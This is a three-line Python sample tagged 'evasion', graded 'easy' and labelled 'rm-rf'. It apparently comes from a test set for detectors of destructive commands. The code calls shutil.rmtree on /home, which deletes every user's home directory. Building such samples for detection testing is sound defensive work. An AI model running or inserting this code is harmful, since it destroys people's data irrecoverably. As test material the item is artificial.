# evasion: shutil.rmtree of the home directory
# grade: easy; does: rm-rf
import shutil
shutil.rmtree("/home")
